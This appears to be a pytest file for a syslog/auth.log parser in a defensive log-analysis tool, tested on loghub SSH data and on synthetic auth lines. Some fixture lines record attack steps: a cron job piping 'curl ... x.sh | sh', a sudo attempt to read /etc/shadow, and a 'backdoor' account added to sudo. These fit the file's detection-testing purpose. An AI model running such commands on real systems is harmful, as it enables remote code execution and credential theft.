"""Syslog / auth.log reader on loghub (OpenSSH_2k, Linux_2k) and on lines the tests write themselves."""

from __future__ import annotations

import os
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest

from chainbreaker.events import NORMALISED_COLUMNS, concat
from chainbreaker.readers import InputFile, ReadReport
from chainbreaker.readers.journald import JournaldJsonReader
from chainbreaker.readers.registry import reader_for, registered_readers
from chainbreaker.readers.suricata import SuricataEveReader
from chainbreaker.readers.syslog import SyslogReader
from chainbreaker.readers.zeek import ZeekJsonReader, ZeekTsvReader


def _read(path: Path, reader: SyslogReader | None = None) -> tuple[pl.DataFrame, ReadReport]:
    file = InputFile(path)
    if reader is None:
        found = reader_for(file)
        assert isinstance(found, SyslogReader), path
        reader = found
    report = ReadReport()
    return concat(list(reader.read(file, report, batch_size=300))), report


def _write(tmp_path: Path, lines: list[str], name: str = "auth.log") -> Path:
    path = tmp_path / name
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.fixture
def openssh(dataset: Callable[[str], Path]) -> Path:
    return dataset("loghub-auth") / "loghub" / "OpenSSH" / "OpenSSH_2k.log"


def _after(text: str, marker: str) -> str:
    return text.split(marker, 1)[1]


def test_openssh_2k_every_line_and_auth_fields(openssh: Path) -> None:
    lines = openssh.read_text().splitlines()
    frame, report = _read(openssh)
    assert report.records == len(lines) == 2_000 and report.skipped == 0
    assert frame.columns[: len(NORMALISED_COLUMNS)] == list(NORMALISED_COLUMNS)
    assert frame.get_column("source").unique().to_list() == ["linux.auth"]
    assert frame.get_column("channel").unique().to_list() == ["sshd"]

    # Independent expectations, from plain string operations on each line.
    expected: dict[int, tuple[str, str, str, int]] = {}
    for number, line in enumerate(lines, 1):
        message = _after(line, "]: ")
        if message.startswith("message repeated "):  # "message repeated N times: [ <message>]"
            message = _after(message, "[ ").removesuffix("]")
        for marker, outcome in (("Failed password for ", "failure"), ("Accepted ", "success")):
            if message.startswith(marker):
                rest = _after(message, " for ") if outcome == "success" else _after(message, marker)
                rest = rest.removeprefix("invalid user ")
                user, _, tail = rest.partition(" from ")
                ip, _, port = tail.partition(" port ")
                expected[number] = (user, ip, outcome, int(port.split()[0]))
    assert sum(1 for line in lines if "Failed password" in line) == 520
    assert sum(1 for v in expected.values() if v[2] == "failure") == 520

    rows = {r["event_ref"]["record"]: r for r in frame.iter_rows(named=True)}
    for number, values in expected.items():
        row = rows[number]
        assert (row["user"], row["src_ip"], row["outcome"], row["src_port"]) == values
    failed = frame.filter((pl.col("outcome") == "failure") & (pl.col("auth_method") == "password"))
    assert failed.height == 520 and failed.get_column("message").str.contains("Failed password").all()
    assert failed.get_column("repeat_count").drop_nulls().to_list() == ["5", "5"]
    assert frame.get_column("host").unique().to_list() == [lines[0].split()[3]]
    assert frame.get_column("process_pid").null_count() == 0


def test_linux_2k_every_line(dataset: Callable[[str], Path]) -> None:
    path = dataset("loghub-auth") / "loghub" / "Linux" / "Linux_2k.log"
    lines = path.read_text(errors="replace").splitlines()
    frame, report = _read(path)
    assert report.records == len(lines) and report.skipped == 0
    failures = frame.filter(pl.col("message").str.starts_with("authentication failure;"))
    expected = sum(1 for line in lines if "]: authentication failure;" in line)
    assert failures.height == expected > 0
    assert failures.get_column("outcome").unique().to_list() == ["failure"]
    with_user = [line for line in lines if "]: authentication failure;" in line and " user=" in line]
    assert failures.get_column("user").drop_nulls().len() == len(with_user)
    # "sshd(pam_unix)[pid]" is program sshd(pam_unix), channel sshd, an auth source
    sshd = frame.filter(pl.col("program") == "sshd(pam_unix)")
    assert sshd.height > 0 and sshd.get_column("channel").unique().to_list() == ["sshd"]
    assert sshd.get_column("source").unique().to_list() == ["linux.auth"]
    assert "linux.syslog" in frame.get_column("source").unique().to_list()


LINES = [
    "Mar  3 10:00:01 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u",
    "Mar  3 10:00:02 web1 sudo:      bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; "  # noqa: E501
    "COMMAND=/bin/cat /etc/shadow",
    "Mar  3 10:00:03 web1 su[811]: FAILED su for root by carol",
    "Mar  3 10:00:04 web1 su[812]: pam_unix(su:session): session opened for user root(uid=0) by carol(uid=1000)",  # noqa: E501
    "Mar  3 10:00:05 web1 useradd[900]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, "
    "shell=/bin/bash, from=/dev/pts/0",
    "Mar  3 10:00:06 web1 usermod[901]: add 'backdoor' to group 'sudo'",
    "Mar  3 10:00:07 web1 groupadd[902]: group added to /etc/group: name=ops, GID=1002",
    "Mar  3 10:00:08 web1 CRON[1000]: (root) CMD (curl -s http://example.invalid/x.sh | sh)",
    "<38>Mar  3 10:00:09 web1 sshd[1200]: Accepted publickey for deploy from 192.0.2.10 port 50022 ssh2: ED25519 SHA256:x",  # noqa: E501
    "Mar  3 10:00:10 web1 sshd[1201]: message repeated 3 times: [ Failed password for root from 192.0.2.66 port 4000 ssh2]",  # noqa: E501
    "Mar  3 10:00:11 web1 sshd[1202]: Failed none for invalid user admin from 2001:db8::5 port 4001 ssh2",
    "Mar  3 10:00:12 web1 sshd[1203]: Disconnected from authenticating user root 192.0.2.66 port 4002 [preauth]",  # noqa: E501
    '<86>1 2024-03-03T10:00:13.123456+01:00 web1 sshd 1204 - [meta sequenceId="1"] Invalid user oracle from '
    "192.0.2.70 port 4003",
    "2024-03-03T10:00:14.5+00:00 web1 systemd-logind[300]: New session 42 of user alice.",
    "this line is not syslog at all",
    "Mar  3 10:00:15 web1 kernel: [ 12.3] eth0: link up",
]


def test_auth_programs_parsed(tmp_path: Path) -> None:
    path = _write(tmp_path, LINES)
    frame, report = _read(path, SyslogReader(year=2024))
    assert report.records == len(LINES) - 1
    assert [(w.position, w.reason.split(":")[0]) for w in report.warnings] == [(15, "not a syslog line")]
    rows = {r["event_ref"]["record"]: r for r in frame.iter_rows(named=True)}

    def pick(n: int, *names: str) -> tuple[object, ...]:
        return tuple(rows[n][name] for name in names)

    fields = ("user", "target_user", "tty", "pwd", "command", "outcome")
    assert pick(1, *fields) == ("alice", "root", "pts/0", "/home/alice", "/usr/bin/id -u", "success")
    assert pick(2, *fields) == ("bob", "root", "pts/1", "/tmp", "/bin/cat /etc/shadow", "failure")
    assert pick(3, "user", "target_user", "outcome") == ("carol", "root", "failure")
    assert pick(4, "user", "target_user") == ("carol", "root")
    assert pick(5, "target_user", "outcome", "source") == ("backdoor", "success", "linux.auth")
    assert pick(6, "target_user", "group") == ("backdoor", "sudo")
    assert pick(7, "group", "channel") == ("ops", "groupadd")
    assert pick(8, "user", "command", "source", "program", "pid") == (
        "root",
        "curl -s http://example.invalid/x.sh | sh",
        "linux.syslog",
        "CRON",
        "1000",
    )
    assert pick(
        9, "user", "src_ip", "src_port", "auth_method", "outcome", "priority", "facility", "severity"
    ) == (
        "deploy",
        "192.0.2.10",
        50022,
        "publickey",
        "success",
        "38",
        "auth",
        "info",
    )
    assert pick(10, "user", "src_ip", "outcome", "repeat_count") == ("root", "192.0.2.66", "failure", "3")
    assert pick(11, "user", "src_ip", "auth_method", "outcome") == ("admin", "2001:db8::5", "none", "failure")
    assert pick(12, "user", "src_ip", "src_port", "outcome") == ("root", "192.0.2.66", 4002, None)
    assert pick(13, "user", "src_ip", "outcome", "msgid", "structured_data", "host") == (
        "oracle",
        "192.0.2.70",
        "failure",
        None,
        '[meta sequenceId="1"]',
        "web1",
    )
    assert rows[13]["timestamp"] == datetime(2024, 3, 3, 9, 0, 13, 123456, tzinfo=UTC)
    assert pick(14, "user", "channel", "source") == ("alice", "systemd-logind", "linux.auth")
    assert rows[14]["timestamp"] == datetime(2024, 3, 3, 10, 0, 14, 500000, tzinfo=UTC)
    assert pick(16, "program", "source", "user", "message") == (
        "kernel",
        "linux.syslog",
        None,
        "[ 12.3] eth0: link up",
    )
    assert rows[1]["timestamp"] == datetime(2024, 3, 3, 10, 0, 1, tzinfo=UTC)

    fetched = SyslogReader(year=2024).fetch(InputFile(path), 2)
    assert fetched is not None and fetched["line"] == LINES[1] and fetched["user"] == "bob"


def test_year_from_mtime_and_timezone(tmp_path: Path) -> None:
    path = _write(tmp_path, ["Dec 31 23:59:58 h sshd[1]: Connection closed by 192.0.2.1 port 1",
                             "Jan  1 00:00:02 h sshd[1]: Connection closed by 192.0.2.1 port 2"])  # fmt: skip
    stamp = datetime(2021, 1, 5, 12, 0, tzinfo=UTC).timestamp()
    os.utime(path, (stamp, stamp))
    frame, _ = _read(path)
    assert frame.get_column("timestamp").dt.year().to_list() == [2020, 2021]
    explicit, _ = _read(path, SyslogReader(year=2019, tz="Europe/Berlin"))
    assert explicit.get_column("timestamp").to_list() == [
        datetime(2019, 12, 31, 22, 59, 58, tzinfo=UTC),
        datetime(2018, 12, 31, 23, 0, 2, tzinfo=UTC),  # 00:00:02 in Berlin (UTC+1) on 1 January 2019
    ]


def test_detection_both_ways(openssh: Path, dataset: Callable[[str], Path], tmp_path: Path) -> None:
    ssh = InputFile(openssh)
    own = InputFile(_write(tmp_path, LINES[:14]))
    assert SyslogReader.detect(ssh, ssh.head()) and SyslogReader.detect(own, own.head())
    slips = dataset("slips") / "slips-dataset" / "dataset"
    for path in (
        slips / "test6-malicious.suricata.json",
        slips / "test9-mixed-zeek-dir" / "conn.log",
        slips / "test10-mixed-zeek-dir" / "conn.log",
    ):
        other = InputFile(path)
        assert not SyslogReader.detect(other, other.head()), path
    for reader in (ZeekTsvReader, ZeekJsonReader, SuricataEveReader, JournaldJsonReader):
        assert not reader.detect(ssh, ssh.head()) and not reader.detect(own, own.head())


def test_registered_when_the_package_is_imported() -> None:
    assert {"syslog"} <= {reader.name for reader in registered_readers()}
